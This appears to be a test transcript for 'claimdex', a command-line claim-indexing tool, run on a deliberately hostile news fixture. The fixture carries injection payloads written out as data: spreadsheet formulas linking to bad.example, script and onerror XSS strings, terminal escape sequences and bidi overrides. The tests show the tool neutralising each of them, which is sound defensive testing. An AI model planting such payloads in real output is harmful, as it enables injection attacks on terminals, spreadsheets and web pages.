An article that would like to talk to the terminal, a spreadsheet or a browser. Escape sequences, bells and bidi controls are
kept in the record, where offsets count them, and are made visible wherever they are shown.

  $ claimdex ingest $DATA/bad/hostile.html $DATA/bad/hostile.txt
  2 articles, 8 claims, 8 repeats, 0 failed

  Worth checking first
  c2     unchecked        casualty.killed  at least 12
         At least 12 people were killed in Port Havel on Monday
         mayor (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c6     unchecked        quantity.people  60
         http://bad.example/?x="&A1,"more than 60 people were detained
         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c5     unchecked        quantity.people  around 40 (35 to 45)
         Some 40 people �derujni erew�, and �around 50� were missing
         police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c3     unchecked        quantity.people  30
         1H�[31mfound 30 survivors�[0m
         fire chief (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c7     unchecked        attribution.quote
         "<script>alert(1)</script>,"
         mayor (direct quote) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin

  next: claimdex show c2   claimdex search 'kind:casualty verdict:unchecked'   claimdex stats
  claimdex: 1 article has no publication date, so relative dates in it ("on Monday") stay open
    give it, also later: claimdex ingest --published 2031-03-04 FILE
  $ claimdex normalize $DATA/bad/hostile.txt
  id         $DATA/bad/hostile.txt
  title      =HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>
  lang       en
  sha256     <sha256>

  =HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>

  At least 12 people were killed in Port Havel on Monday, the mayor said.

  Rescuers ^[[2J^[[1;1H^[[31mfound 30 survivors^[[0m, the fire chief said.

  A link: ^[]8;;http://bad.example/^[\click here^[]8;;^[\ and a title ^[]0;owned^G and a bell ^G and a C1 CSI �31m.

  Some 40 people �derujni erew�, and �around 50� were missing, police� said.

  =HYPERLINK("http://bad.example/?x="&A1,"more than 60 people were detained")

  +1+1 and -2+3 and @SUM(A1:A9) and a tab and a pipe | and a `backtick`.

  "<script>alert(1)</script>," the mayor said. "</script><img src=x onerror=alert(2)>"
  $ claimdex annotate $DATA/bad/hostile.txt
  [1: =HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0];owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>

  [2: At least 12 people were killed in Port Havel on Monday], the mayor said.

  Rescuers ^[[2J^[[1;[3: [4: 1H^[[31mfound 30 survivors^[[0m]], the fire chief said.

  A link: ^[]8;;http://bad.example/^[\click here^[]8;;^[\ and a title ^[]0;[5: owned^G and a bell ^G and a C1 CSI �31m].

  [6: Some 40 people �derujni erew�, and �around 50� were missing], police� said.

  =HYPERLINK("[7: http://bad.example/?x="&A1,"more than 60 people were detained]")

  +1+1 and -2+3 and @SUM(A1:A9) and a tab and a pipe | and a `backtick`.

  [8: "<script>alert(1)</script>,"] the mayor said. [9: "</script><img src=x onerror=alert(2)>"]

    1  quantity.distance  0 metres
       "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0"
       the article itself (no source named) · unattributed_number · worth 0.51, confidence 0.50, quantity.distance.plain
    2  casualty.killed  at least 12
       "At least 12 people were killed in Port Havel on Monday"
       mayor (reported speech) · Port Havel · Monday · relative_time_unresolved · worth 0.96, confidence 0.90, casualty.killed.passive
    3  quantity.people  30
       "1H^[[31mfound 30 survivors^[[0m"
       fire chief (reported speech) · worth 0.76, confidence 0.80, quantity.people.plain
    4  quantity.distance  0 metres
       "1H^[[31mfound 30 survivors^[[0m"
       fire chief (reported speech) · worth 0.56, confidence 0.80, quantity.distance.plain
    5  quantity.distance  31 metres
       "owned^G and a bell ^G and a C1 CSI �31m"
       the article itself (no source named) · unattributed_number · worth 0.37, confidence 0.80, quantity.distance.plain
    6  quantity.people  around 40 (35 to 45)
       "Some 40 people �derujni erew�, and �around 50� were missing"
       police� (reported speech) · worth 0.83, confidence 0.80, quantity.people.plain
    7  quantity.people  60
       "http://bad.example/?x="&A1,"more than 60 people were detained"
       the article itself (no source named) · unattributed_number · worth 0.84, confidence 0.80, quantity.people.plain
    8  attribution.quote
       ""<script>alert(1)</script>,""
       mayor (direct quote) · worth 0.68, confidence 0.95, attribution.quote.direct
    9  attribution.quote
       ""</script><img src=x onerror=alert(2)>""
       mayor (direct quote; named in an earlier sentence) · worth 0.37, confidence 0.85, attribution.quote.direct.carried
  $ claimdex search '*'
  c8     unchecked        attribution.quote
         "</script><img src=x onerror=alert(2)>"
         mayor (direct quote; named in an earlier sentence) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c7     unchecked        attribution.quote
         "<script>alert(1)</script>,"
         mayor (direct quote) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c6     unchecked        quantity.people  60
         http://bad.example/?x="&A1,"more than 60 people were detained
         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c5     unchecked        quantity.people  around 40 (35 to 45)
         Some 40 people �derujni erew�, and �around 50� were missing
         police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c4     unchecked        quantity.distance  0 metres
         1H�[31mfound 30 survivors�[0m
         fire chief (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c3     unchecked        quantity.people  30
         1H�[31mfound 30 survivors�[0m
         fire chief (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c2     unchecked        casualty.killed  at least 12
         At least 12 people were killed in Port Havel on Monday
         mayor (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  c1     unchecked        quantity.distance  0 metres
         =HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0
         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10 · 2 mentions, 1 origin
  $ claimdex show $(claimdex search --ids '*')
  c8  attribution.quote  unchecked, new

    "</script><img src=x onerror=alert(2)>"

    "<script>alert(1)</script>," the mayor said. "</script><img src=x onerror=alert(2)>"

    said by     mayor (direct quote; named in an earlier sentence)
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m8 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m16 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.37, confidence 0.85, rule attribution.quote.direct.carried

  history
    2031-05-20T12:00:00Z  ada        c8     claim: "</script><img src=x onerror=alert(2)>"
    2031-05-20T12:00:00Z  ada        c8     mention: m16

  c7  attribution.quote  unchecked, new

    "<script>alert(1)</script>,"

    "<script>alert(1)</script>," the mayor said. "</script><img src=x onerror=alert(2)>"

    said by     mayor (direct quote)
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m7 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m15 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.68, confidence 0.95, rule attribution.quote.direct

  history
    2031-05-20T12:00:00Z  ada        c7     claim: "<script>alert(1)</script>,"
    2031-05-20T12:00:00Z  ada        c7     mention: m15

  c6  quantity.people  unchecked, new

    http://bad.example/?x="&A1,"more than 60 people were detained

    =HYPERLINK("http://bad.example/?x="&A1,"more than 60 people were detained")

    figure      60
    who         people (other)
    said by     the article itself (no source named)
    flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m6 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m14 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.84, confidence 0.80, rule quantity.people.plain

  history
    2031-05-20T12:00:00Z  ada        c6     claim: http://bad.example/?x="&A1,"more than 60 people were detained
    2031-05-20T12:00:00Z  ada        c6     mention: m14

  c5  quantity.people  unchecked, new

    Some 40 people �derujni erew�, and �around 50� were missing

    Some 40 people �derujni erew�, and �around 50� were missing, police� said.

    figure      around 40 (35 to 45)
    who         people (other)
    said by     police� (reported speech)
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m5 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m13 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.83, confidence 0.80, rule quantity.people.plain

  history
    2031-05-20T12:00:00Z  ada        c5     claim: Some 40 people �derujni erew�, and �around 50� were missing
    2031-05-20T12:00:00Z  ada        c5     mention: m13

  c4  quantity.distance  unchecked, new

    1H�[31mfound 30 survivors�[0m

    Rescuers �[2J�[1;1H�[31mfound 30 survivors�[0m, the fire chief said.

    figure      0 metres
    said by     fire chief (reported speech)
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m4 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m12 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.56, confidence 0.80, rule quantity.distance.plain

  history
    2031-05-20T12:00:00Z  ada        c4     claim: 1H�[31mfound 30 survivors�[0m
    2031-05-20T12:00:00Z  ada        c4     mention: m12

  c3  quantity.people  unchecked, new

    1H�[31mfound 30 survivors�[0m

    Rescuers �[2J�[1;1H�[31mfound 30 survivors�[0m, the fire chief said.

    figure      30
    who         survivors (other)
    said by     fire chief (reported speech)
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m3 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m11 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.76, confidence 0.80, rule quantity.people.plain

  history
    2031-05-20T12:00:00Z  ada        c3     claim: 1H�[31mfound 30 survivors�[0m
    2031-05-20T12:00:00Z  ada        c3     mention: m11

  c2  casualty.killed  unchecked, new

    At least 12 people were killed in Port Havel on Monday

    At least 12 people were killed in Port Havel on Monday, the mayor said.

    figure      at least 12
    who         people (other)
    where       Port Havel
    when        Monday (2031-03-10)
    said by     mayor (reported speech)
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m2 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m10 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.96, confidence 0.90, rule casualty.killed.passive

  history
    2031-05-20T12:00:00Z  ada        c2     claim: At least 12 people were killed in Port Havel on Monday
    2031-05-20T12:00:00Z  ada        c2     mention: m10

  c1  quantity.distance  unchecked, new

    =HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0

    =HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>

    figure      0 metres
    said by     the article itself (no source named)
    flag        unattributed_number: a figure in the article's own voice: nobody is named who says so
    article     a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10
    mentions    2 in 1 origin
    rests on    one origin only: no other report, no evidence from elsewhere
                m1 in a1 "=HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0;owned� �gnihton� �iso� zerowidth <script>alert(1)</script>", Bad ^[[31mOutlet^G </script>, 2031-03-10, origin o1
                m9 in a2 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>", origin o1
    worth       0.52, confidence 0.50, rule quantity.distance.plain

  history
    2031-05-20T12:00:00Z  ada        c1     claim: =HYPERLINK("http://bad.example/","Port Havel") �[31mred�[0m �]0
    2031-05-20T12:00:00Z  ada        c1     mention: m9

No control character reaches a terminal from any command, coloured or not.

  $ for command in "search *" "show $(claimdex search --ids '*' | tr '\n' ' ')" "show a1 a2 o1 m9" "log" "stats" "export *" \
  >   "normalize $DATA/bad/hostile.html" "annotate $DATA/bad/hostile.html"; do
  >   set -f; claimdex $command | LC_ALL=C grep -c -P '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xaa-\xae]|\xe2\x81[\xa6-\xa9]'
  > done
  0
  0
  0
  0
  0
  0
  0
  0
  [1]

A spreadsheet gets words, not formulas.

  $ claimdex export '*' --format csv
  \x69d,type,text,verdict,progress,reason,figure,value,low,high,hedge,unit,speaker,via,form,who,place,time_from,time_to,published,source,title,url,article,start,end,mentions,origins,evidence,created,changed,uid\r (esc)
  \x631,quantity.distance,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0",unchecked,new,,0m,0,0,0,exact,metre,,,,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,0,63,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x632,casualty.killed,At least 12 people were killed in Port Havel on Monday,unchecked,new,,At least 12,12,12,,at_least,person,mayor,,indirect,people,Port Havel,2031-03-10,2031-03-10,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,124,178,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x633,quantity.people,1H�[31mfound 30 survivors�[0m,unchecked,new,,30,30,30,30,exact,person,fire chief,,indirect,survivors,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,214,243,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x634,quantity.distance,1H�[31mfound 30 survivors�[0m,unchecked,new,,0m,0,0,0,exact,metre,fire chief,,indirect,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,214,243,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x635,quantity.people,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,375,434,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x636,quantity.people,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,463,524,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x637,attribution.quote,"""<script>alert(1)</script>,""",unchecked,new,,,,,,,,mayor,,direct,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,600,628,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x638,attribution.quote,"""</script><img src=x onerror=alert(2)>""",unchecked,new,,,,,,,,mayor,,direct,,,,,2031-03-10T12:00:00+01:00,Bad [31mOutlet </script>,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") �[31mred�[0m �]0;owned� gnihton iso zerowidth <script>alert(1)</script>",,a1,645,684,2,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)

A page gets text, not markup: its one script is ours.

  $ claimdex export '*' -o sheet.html
  claimdex: 8 claims in sheet.html
  $ grep -c '<script' sheet.html
  1

JSON holds the words as they were, escaped.

  $ claimdex search --json '*' | $SCHEMAS/validate.py
  $ claimdex search --json '*' | LC_ALL=C grep -c -P '[\x00-\x09\x0b-\x1f]'
  0
  [1]

The text file in a desk of its own, where it is nobody's copy: its escape sequences are raw bytes, not references of HTML.

  $ export CLAIMDEX_DESK=text
  > claimdex ingest $DATA/bad/hostile.txt 2>&1 | head -n 1
  > claimdex search '*'
  1 article, 8 claims, 0 repeats, 0 failed
  c8     unchecked        attribution.quote
         "</script><img src=x onerror=alert(2)>"
         mayor (direct quote; named in an earlier sentence) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  c7     unchecked        attribution.quote
         "<script>alert(1)</script>,"
         mayor (direct quote) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  c6     unchecked        quantity.people  60
         http://bad.example/?x="&A1,"more than 60 people were detained
         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  c5     unchecked        quantity.people  around 40 (35 to 45)
         Some 40 people �derujni erew�, and �around 50� were missing
         police� (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  c4     unchecked        quantity.distance  0 metres
         1H^[[31mfound 30 survivors^[[0m
         fire chief (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  c3     unchecked        quantity.people  30
         1H^[[31mfound 30 survivors^[[0m
         fire chief (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  c2     unchecked        casualty.killed  at least 12
         At least 12 people were killed in Port Havel on Monday
         mayor (reported speech) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  c1     unchecked        quantity.distance  0 metres
         =HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0
         the article itself (no source named) · a1 "=HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script>"
  $ export CLAIMDEX_DESK=text
  > claimdex export '*' --format csv
  \x69d,type,text,verdict,progress,reason,figure,value,low,high,hedge,unit,speaker,via,form,who,place,time_from,time_to,published,source,title,url,article,start,end,mentions,origins,evidence,created,changed,uid\r (esc)
  \x631,quantity.distance,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0",unchecked,new,,0m,0,0,0,exact,metre,,,,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,0,63,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x632,casualty.killed,At least 12 people were killed in Port Havel on Monday,unchecked,new,,At least 12,12,12,,at_least,person,mayor,,indirect,people,Port Havel,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,124,178,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x633,quantity.people,1H[31mfound 30 survivors[0m,unchecked,new,,30,30,30,30,exact,person,fire chief,,indirect,survivors,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x634,quantity.distance,1H[31mfound 30 survivors[0m,unchecked,new,,0m,0,0,0,exact,metre,fire chief,,indirect,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,214,243,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x635,quantity.people,"Some 40 people derujni erew, and around 50 were missing",unchecked,new,,Some 40,40,35,45,about,person,police,,indirect,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,375,434,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x636,quantity.people,"http://bad.example/?x=""&A1,""more than 60 people were detained",unchecked,new,,60,60,60,60,exact,person,,,,people,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,463,524,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x637,attribution.quote,"""<script>alert(1)</script>,""",unchecked,new,,,,,,,,mayor,,direct,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,600,628,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)
  \x638,attribution.quote,"""</script><img src=x onerror=alert(2)>""",unchecked,new,,,,,,,,mayor,,direct,,,,,,,"'=HYPERLINK(""http://bad.example/"",""Port Havel"") [31mred[0m ]0;owned gnihton iso zerowidth <script>alert(1)</script>",,a1,645,684,1,1,,2031-05-20T12:00:00Z,2031-05-20T12:00:00Z,<uid>\r (esc)

Nor do the words that people at the desk type drive a terminal.

  $ export CLAIMDEX_DESK=text bell=$'b\a' red=$'\e[31mred'
  > claimdex edit c2 --place "$red" --speaker "$bell" --who "$red" --because "$bell"
  > claimdex edit c2 --place "$red" --speaker "$bell" --who "$red" --because x
  > claimdex edit a1 --title "$red" --source "$bell" --because x
  > claimdex add --text "$red words" --seen-at "$bell" --because x
  > claimdex add --article a1 --text "$bell"
  > claimdex link c2 c3 --because x
  > claimdex edit "$red" --figure 3 --because x
  > claimdex show "$red"
  claimdex: character 2 of the reason is a control character
    take it out; colours of a terminal bring such characters along
  c2  who: people → ^[[31mred
  c2  place: Port Havel → ^[[31mred
  c2  speaker: mayor → b^G
  a1  title: =HYPERLINK("http://bad.example/","Port Havel") ^[[31mred^[[0m ^[]0;owned^G �gnihton� �iso� zerowidth <script>alert(1)</script> → ^[[31mred
  a1  source: none → b^G
  c9     unchecked        event
         ^[[31mred words
         nobody named · seen: b^G
  claimdex: a1 doesn't say "b^G"
    copy the words exactly as they stand there
  c2 repeats c3
  claimdex: "^[[31mred" is not the handle of a claim, a mention or an article
    claimdex edit c12 --figure 17 --because '…'
  claimdex: "^[[31mred" is no handle
    a claim c12, an article a7, a mention m3, evidence e5, an origin o2, a fact-check f9; claimdex search --ids prints handles
  [2]
  $ export CLAIMDEX_DESK=text
  > for command in "search *" "show $(claimdex search --ids '*' | tr '\n' ' ')" "show a1 o1 m2" "log" "export *" "annotate $DATA/bad/hostile.txt"; do
  >   set -f; claimdex $command | LC_ALL=C grep -c -P '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8b-\x8f\xaa-\xae]|\xe2\x81[\xa6-\xa9]'
  > done
  0
  0
  0
  0
  0
  0
  [1]
